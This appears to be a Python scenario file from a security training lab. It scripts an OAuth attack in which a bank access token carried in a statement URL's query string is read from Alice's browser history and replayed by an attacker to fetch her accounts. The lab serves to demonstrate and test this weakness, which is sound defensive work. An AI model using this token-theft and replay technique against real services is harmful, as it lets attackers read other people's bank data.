"""A statement is opened by a URL, and the URL stays behind."""

from labs.chromium import BrowserStage
from labs.stage import PUBLIC, Stage, Stuck
from labs.steps import step

STATEMENT = "/accounts/alice-current/transactions"  # at the bank


@step("attacker")
def tries_it_with_his_own(stage: Stage) -> None:
    """Connect an app of the attacker's own to Mallory's account, and show the bank that token in the URL."""
    redirect_uri = f"{stage.here.attacker}/collect"
    client_id = stage.attacker.register("Statements", redirect_uri, **PUBLIC)["client_id"]
    stage.mallory.go(stage.link(client_id, redirect_uri)).agree()
    token = stage.redeem_newest(client_id, redirect_uri)
    # With his own he learns whether the bank reads tokens there, and tells nobody anything.
    stage.attacker.ask("GET", f"{stage.here.bank}/accounts?access_token={token}")


@step("Alice", by_hand="{balance}/")
def alice_opens_the_statement(stage: BrowserStage) -> None:
    """Connect Balance to the bank: sign in as alice, and allow. Then press “Open the statement”."""
    tab = (
        stage.alice.go(f"{stage.here.balance}/").click("Connect your bank", leads_to=stage.here.auth).agree().rest().tab
    )
    button = tab.get_by_role("button", name="Open the statement")
    if not button.count():
        raise Stuck("this Balance opens no statement")
    with tab.expect_response(lambda answer: "access_token=" in answer.url) as statement:
        button.click()
    if statement.value.ok:
        tab.wait_for_url(f"{stage.here.bank}/**")


@step("attacker", asks="the URL of the statement with access_token= in it: the browser shows it", on_wire=STATEMENT)
def reads_the_history(stage: Stage) -> None:
    """Read the URL in the browser's history, and ask the bank with the token in it."""
    parameters = stage.leak("history", stage.given or stage.alice.visited(STATEMENT))
    stage.attacker.bank("GET", "/accounts", parameters["access_token"])
